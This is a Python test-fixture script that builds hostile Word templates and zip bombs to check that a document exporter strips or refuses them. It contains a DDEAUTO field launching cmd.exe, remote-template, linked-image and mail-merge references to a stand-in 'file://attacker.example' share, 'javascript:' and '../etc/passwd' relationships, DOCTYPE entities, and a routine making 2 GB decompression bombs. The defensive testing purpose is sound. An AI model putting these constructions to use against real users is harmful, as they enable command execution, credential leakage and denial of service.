"""The hostile company templates of tests/data/templates/, and the zip bombs made at test time.

`python -m tests.export.template_corpus` rewrites tests/data/templates/*.docx|.dotx from the
default template (a test checks the files and this script agree). Each case says what must
happen: `None` = a clean export (no macro, no .bin, no external relationship other than
http(s)/mailto, no DOCTYPE), or the words the one-line refusal must hold.

The zip bombs are not committed: `bomb()` builds one in well under a second from one compressed
block of zeros repeated (a deflate stream flushed at each block restarts from a clean state,
so equal input gives equal bytes), each 2 GB of zeros in about 2 MB.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
DEFAULT = ROOT / "src" / "svplan" / "resources" / "template.docx"
CORPUS = ROOT / "tests" / "data" / "templates"

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RT = R_NS + "/"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
NS = (
    f'xmlns:w="{W_NS}" xmlns:r="{R_NS}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
ATTACKER = "file://attacker.example/share"
# a 1x1 PNG (a real image: the logo a company template would carry)
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201a5d6b1a10000000049454e44ae426082"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # the start of an OLE compound file
CT_DOC = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


# building packages --------------------------------------------------------------------------------


def default_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(DEFAULT) as z:
        return {name: z.read(name) for name in z.namelist()}


def rels(*items: tuple[str, str, str] | tuple[str, str, str, bool]) -> bytes:
    """A relationships part: (id, type after RT or a full URI, target[, external])."""
    out = []
    for rid, kind, target, *external in items:
        uri = kind if "://" in kind else RT + kind
        mode = ' TargetMode="External"' if external and external[0] else ""
        out.append(f'<Relationship Id="{rid}" Type="{uri}" Target="{target}"{mode}/>')
    return f'{DECL}<Relationships xmlns="{PKG}">{"".join(out)}</Relationships>'.encode()


def with_types(parts: dict[str, bytes], defaults=(), overrides=()) -> None:
    """Add Default (extension, type) and Override (part, type) entries to [Content_Types].xml."""
    extra = "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in defaults)
    extra += "".join(f'<Override PartName="/{p}" ContentType="{t}"/>' for p, t in overrides)
    types = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = types.replace("</Types>", extra + "</Types>").encode()


def add_document_rels(parts: dict[str, bytes], *items) -> None:
    """Append relationships to word/_rels/document.xml.rels."""
    old = parts["word/_rels/document.xml.rels"].decode()
    new = rels(*items).decode().split(f'<Relationships xmlns="{PKG}">', 1)[1]
    parts["word/_rels/document.xml.rels"] = old.replace("</Relationships>", new).encode()


def with_header(parts: dict[str, bytes], body: str, header_rels: bytes | None = None) -> None:
    """A default header holding `body` (paragraph content), referenced from the section."""
    parts["word/header1.xml"] = f"{DECL}<w:hdr {NS}>{body}</w:hdr>".encode()
    if header_rels is not None:
        parts["word/_rels/header1.xml.rels"] = header_rels
    with_types(parts, overrides=[("word/header1.xml", CT_DOC.replace("document.main", "header"))])
    add_document_rels(parts, ("rIdH1", "header", "header1.xml"))
    doc = parts["word/document.xml"].decode()
    parts["word/document.xml"] = doc.replace(
        "<w:sectPr>", '<w:sectPr><w:headerReference w:type="default" r:id="rIdH1"/>'
    ).encode()


def picture(attr: str, inner: str = "") -> str:
    """A DrawingML picture in a run, its a:blip carrying `attr` (r:embed=… or r:link=…)."""
    blip = f"<a:blip {attr}>{inner}</a:blip>" if inner else f"<a:blip {attr}/>"
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="1" '
        'name="Logo"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        '<pic:cNvPr id="1" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f"{blip}<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>"
        '<a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing></w:r>"
    )


def para(*runs: str) -> str:
    return f"<w:p>{''.join(runs)}</w:p>"


def text(words: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{words}</w:t></w:r>'


def field(code: str, shown: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"{text(shown)}"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


# the cases ----------------------------------------------------------------------------------------


def vba_project(p: dict[str, bytes]) -> None:
    p["word/vbaProject.bin"] = OLE
    with_types(p, defaults=[("bin", "application/vnd.ms-office.vbaProject")])
    add_document_rels(
        p,
        (
            "rIdVba",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin",
        ),
    )


def macro_enabled(p: dict[str, bytes]) -> None:
    vba_project(p)
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    p["[Content_Types].xml"] = p["[Content_Types].xml"].replace(CT_DOC.encode(), macro.encode())


def orphan_ole(p: dict[str, bytes]) -> None:
    p["word/embeddings/oleObject1.bin"] = OLE
    with_types(p, defaults=[("bin", "application/vnd.openxmlformats-officedocument.oleObject")])


def ole_in_header(p: dict[str, bytes]) -> None:
    p["word/media/image1.png"] = PNG
    p["word/embeddings/oleObject1.bin"] = OLE
    with_types(
        p,
        defaults=[
            ("png", "image/png"),
            ("bin", "application/vnd.openxmlformats-officedocument.oleObject"),
        ],
    )
    obj = (
        '<w:r><w:object><v:shape id="ole1" style="width:40pt;height:40pt"><v:imagedata '
        'r:id="rIdImg" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" '
        'ShapeID="ole1" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r>'
    )
    with_header(
        p,
        para(text("Commercial in confidence"), obj),
        rels(
            ("rIdImg", "image", "media/image1.png"),
            ("rIdOle", "oleObject", "embeddings/oleObject1.bin"),
        ),
    )


def attached_template(p: dict[str, bytes]) -> None:
    settings = p["word/settings.xml"].decode()
    close = settings.rindex("</w:settings>")
    settings = settings[:close] + '<w:attachedTemplate r:id="rIdT"/></w:settings>'
    if "xmlns:r=" not in settings:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{R_NS}" ', 1)
    p["word/settings.xml"] = settings.encode()
    p["word/_rels/settings.xml.rels"] = rels(
        ("rIdT", "attachedTemplate", f"{ATTACKER}/Normal.dotm", True)
    )


def linked_header_image(p: dict[str, bytes]) -> None:
    with_header(
        p,
        para(text("ACME Ltd"), picture('r:link="rIdLogo"')),
        rels(("rIdLogo", "image", f"{ATTACKER}/logo.png", True)),
    )


def header_logo(p: dict[str, bytes]) -> None:
    p["word/media/image1.png"] = PNG
    with_types(p, defaults=[("png", "image/png")])
    with_header(
        p,
        para(text("ACME Ltd"), picture('r:embed="rIdLogo"')),
        rels(("rIdLogo", "image", "media/image1.png")),
    )


def fake_image(p: dict[str, bytes]) -> None:
    p["word/media/image1.png"] = OLE  # named .png, is not one
    with_types(p, defaults=[("png", "image/png")])
    with_header(
        p,
        para(text("ACME Ltd"), picture('r:embed="rIdLogo"')),
        rels(("rIdLogo", "image", "media/image1.png")),
    )


def header_fields(p: dict[str, bytes]) -> None:
    fetch = field(f'INCLUDEPICTURE "{ATTACKER}/track.png" \\d', "[picture]")
    dde = (
        '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c calc&quot; ">'
        "<w:r><w:t>DDE</w:t></w:r></w:fldSimple>"
    )
    links = (
        '<w:hyperlink r:id="rIdFile"><w:r><w:t>share</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdWeb"><w:r><w:t> acme.example</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdCc"><w:r><w:t> mail us</w:t></w:r></w:hyperlink>'
    )
    with_header(
        p,
        para(text("Page "), field("PAGE", "1"), fetch, dde) + para(links),
        rels(
            ("rIdFile", "hyperlink", f"{ATTACKER}/doc.docx", True),
            ("rIdWeb", "hyperlink", "https://acme.example/", True),
            ("rIdCc", "hyperlink", "mailto:bids@acme.example?cc=attacker@evil.example", True),
        ),
    )


def doctype_core(p: dict[str, bytes]) -> None:
    core = p["docProps/core.xml"].decode()
    body = core.split("?>", 1)[1] if core.startswith("<?xml") else core
    p["docProps/core.xml"] = (
        DECL
        + '<!DOCTYPE cp:coreProperties [<!ENTITY boom "BOOM">]>\n'
        + body.replace("</cp:coreProperties>", "<dc:title>&boom;</dc:title></cp:coreProperties>")
    ).encode()


def doctype_styles(p: dict[str, bytes]) -> None:
    styles = p["word/styles.xml"].decode()
    body = styles.split("?>", 1)[1]
    p["word/styles.xml"] = (DECL + '<!DOCTYPE w:styles [<!ENTITY x "x">]>' + body).encode()


def no_sectpr(p: dict[str, bytes]) -> None:
    p["word/document.xml"] = (
        f"{DECL}<w:document {NS}><w:body><w:p><w:r><w:t>Delete me</w:t></w:r></w:p></w:body>"
        "</w:document>"
    ).encode()


def custom_xml(p: dict[str, bytes]) -> None:
    p["customXml/item1.xml"] = b'<?xml version="1.0"?><data>secret</data>'
    p["docProps/custom.xml"] = (
        DECL + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
        'custom-properties"/>'
    ).encode()
    add_document_rels(p, ("rIdX", "customXml", "../customXml/item1.xml"))


def activex(p: dict[str, bytes]) -> None:
    p["word/activeX/activeX1.xml"] = (
        DECL + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage" '
        f'xmlns:r="{R_NS}" r:id="rId1"/>'
    ).encode()
    p["word/activeX/activeX1.bin"] = OLE
    p["word/activeX/_rels/activeX1.xml.rels"] = rels(
        (
            "rId1",
            "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
            "activeX1.bin",
        )
    )
    with_types(p, defaults=[("bin", "application/vnd.ms-office.activeX")])
    add_document_rels(p, ("rIdAx", "control", "activeX/activeX1.xml"))


def embedded_font(p: dict[str, bytes]) -> None:
    fonts = p["word/fontTable.xml"].decode()
    fonts = (
        fonts.replace("<w:fonts ", f'<w:fonts xmlns:r="{R_NS}" ', 1)
        if "xmlns:r=" not in fonts
        else fonts
    )
    close = fonts.rindex("</w:fonts>")
    fonts = fonts[:close] + (
        '<w:font w:name="Acme Sans"><w:embedRegular r:id="rIdF" '
        'w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font></w:fonts>'
    )
    p["word/fontTable.xml"] = fonts.encode()
    p["word/fonts/font1.odttf"] = bytes(256)
    p["word/_rels/fontTable.xml.rels"] = rels(("rIdF", "font", "fonts/font1.odttf"))
    with_types(
        p, defaults=[("odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont")]
    )


def mail_merge(p: dict[str, bytes]) -> None:
    settings = p["word/settings.xml"].decode()
    if "xmlns:r=" not in settings:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{R_NS}" ', 1)
    close = settings.rindex("</w:settings>")
    settings = settings[:close] + (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
        '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdM"/></w:mailMerge>'
        '<w:docVars><w:docVar w:name="secret" w:val="payload"/></w:docVars></w:settings>'
    )
    p["word/settings.xml"] = settings.encode()
    p["word/_rels/settings.xml.rels"] = rels(
        ("rIdM", "mailMergeSource", f"{ATTACKER}/data.xlsx", True)
    )


def external_rels(p: dict[str, bytes]) -> None:
    """The main part relates to everything a template should not carry, plus one web link."""
    add_document_rels(
        p,
        ("rIdE1", "hyperlink", f"{ATTACKER}/x.docx", True),
        ("rIdE2", "hyperlink", "https://www.acme.example/", True),
        ("rIdE3", "oleObject", f"{ATTACKER}/object.bin", True),
        ("rIdE4", "subDocument", f"{ATTACKER}/sub.docx", True),
        ("rIdE5", "webSettings", "webSettings.xml"),
        ("rIdE6", "styles", f"{ATTACKER}/styles.xml", True),
        ("rIdE7", "image", f"{ATTACKER}/a.png", True),
        ("rIdE8", "hyperlink", "javascript:alert(1)", True),
        ("rIdE9", "header", "../../../etc/passwd"),
    )
    p["word/webSettings.xml"] = (
        DECL + f'<w:webSettings {NS}><w:frameset><w:frame><w:sourceFileName r:id="rIdE1"/>'
        "</w:frame></w:frameset></w:webSettings>"
    ).encode()


def glossary(p: dict[str, bytes]) -> None:
    template = CT_DOC.replace("document.main", "template.main")
    p["[Content_Types].xml"] = p["[Content_Types].xml"].replace(CT_DOC.encode(), template.encode())
    p["word/glossary/document.xml"] = (
        f"{DECL}<w:glossaryDocument {NS}><w:docParts/></w:glossaryDocument>"
    ).encode()
    add_document_rels(p, ("rIdG", "glossaryDocument", "glossary/document.xml"))


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[dict[str, bytes]], None]
    refusal: str | None  # None: exports cleanly; else words of the one-line refusal
    about: str


CASES = [
    Case("vba-project.docx", vba_project, None, "word/vbaProject.bin with its relationship"),
    Case("macro-enabled.docx", macro_enabled, "contains macros", "a .docm renamed .docx"),
    Case("orphan-ole.docx", orphan_ole, None, "word/embeddings/oleObject1.bin, no relationship"),
    Case("ole-in-header.docx", ole_in_header, None, "an OLE package object in the header"),
    Case("attached-template.docx", attached_template, None, "attachedTemplate to file://attacker"),
    Case("linked-header-image.docx", linked_header_image, None, "header image r:link to file://"),
    Case("header-logo.docx", header_logo, None, "a real embedded PNG logo (it must survive)"),
    Case("fake-image.docx", fake_image, None, "an OLE file named image1.png in the header"),
    Case("header-fields.docx", header_fields, None, "INCLUDEPICTURE, DDEAUTO, file:// links"),
    Case("doctype-core.docx", doctype_core, None, "DOCTYPE entity in docProps/core.xml"),
    Case(
        "doctype-styles.docx", doctype_styles, "DOCTYPE", "DOCTYPE in word/styles.xml (kept part)"
    ),
    Case("no-sectpr.docx", no_sectpr, None, "a body without w:sectPr"),
    Case("custom-xml.docx", custom_xml, None, "customXml and custom properties"),
    Case("activex.docx", activex, None, "an ActiveX control with its .bin"),
    Case("embedded-font.docx", embedded_font, None, "an embedded (obfuscated) font"),
    Case("mail-merge.docx", mail_merge, None, "mail merge data source on a share, docVars"),
    Case("external-rels.docx", external_rels, None, "file://, javascript:, ../ and external parts"),
    Case("glossary.dotx", glossary, None, "a .dotx with building blocks (glossary)"),
]


def build(case: Case) -> bytes:
    parts = default_parts()
    case.build(parts)
    return zip_bytes([(name, data) for name, data in parts.items()])


# writing zips by hand (so a bomb can carry a precomputed deflate stream) --------------------------


@dataclass
class Entry:
    name: str
    raw: bytes  # the stored bytes (deflated unless method is 0)
    crc: int
    size: int  # the inflated size declared
    method: int = 8
    flags: int = 0


def deflated(name: str, data: bytes) -> Entry:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Entry(name, c.compress(data) + c.flush(), zlib.crc32(data), len(data))


def write_entries(entries: list[Entry]) -> bytes:
    out, central = bytearray(), bytearray()
    for e in entries:
        name = e.name.encode()
        offset = len(out)
        fixed = (20, e.flags, e.method, 0, 0x21, e.crc, len(e.raw), e.size, len(name))
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", *fixed, 0) + name + e.raw
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *fixed, 0, 0, 0, 0, 0, offset)
        central += name
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), len(out), 0
    )
    return bytes(out + central + end)


def zip_bytes(files: list[tuple[str, bytes]]) -> bytes:
    return write_entries([deflated(name, data) for name, data in files])


_ZEROS: dict[int, Entry] = {}


def zeros_entry(name: str, gigabytes: int = 2) -> Entry:
    """An entry that inflates to `gigabytes` GB of zeros, stored in about 1 MB per GB."""
    if gigabytes not in _ZEROS:
        block = bytes(16 * 1024 * 1024)
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        segment = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
        assert c.compress(block) + c.flush(zlib.Z_FULL_FLUSH) == segment  # same state each time
        count = gigabytes * 64
        crc = 0
        for _ in range(count):
            crc = zlib.crc32(block, crc)
        _ZEROS[gigabytes] = Entry("", segment * count + c.flush(), crc, count * len(block))
    e = _ZEROS[gigabytes]
    return Entry(name, e.raw, e.crc, e.size)


def bomb(where: str) -> bytes:
    """The default template with one entry that inflates to 2 GB: "[Content_Types].xml",
    "word/document.xml" or an unused "word/media/unused.xml"."""
    entries = [deflated(name, data) for name, data in default_parts().items() if name != where]
    entries.insert(0, zeros_entry(where))
    return write_entries(entries)


def lying_header() -> bytes:
    """word/document.xml declares 1 KB but inflates to 100 MB."""
    entries = [deflated(n, d) for n, d in default_parts().items() if n != "word/document.xml"]
    real = deflated("word/document.xml", bytes(100 * 1024 * 1024))
    entries.append(Entry(real.name, real.raw, real.crc, 1024))
    return write_entries(entries)


def many_entries(count: int = 5000) -> bytes:
    """The default template plus `count` empty entries."""
    parts = [deflated(n, d) for n, d in default_parts().items()]
    empty = deflated("", b"")
    parts += [Entry(f"x/{i}", empty.raw, empty.crc, 0) for i in range(count)]
    return write_entries(parts)


def big_part() -> bytes:
    """word/styles.xml declares 25 MB from 1 MB (a ratio a real part can have, a size it has
    not): refused on the declared size, so the bytes need not be real deflate data."""
    entries = [deflated(n, d) for n, d in default_parts().items() if n != "word/styles.xml"]
    entries.append(Entry("word/styles.xml", bytes(1024 * 1024), 0, 25 * 1024 * 1024))
    return write_entries(entries)


def encrypted() -> bytes:
    entries = [deflated(n, d) for n, d in default_parts().items()]
    entries[0].flags = 1
    return write_entries(entries)


def main() -> None:
    CORPUS.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        (CORPUS / case.name).write_bytes(build(case))
        print(CORPUS / case.name)


if __name__ == "__main__":
    main()
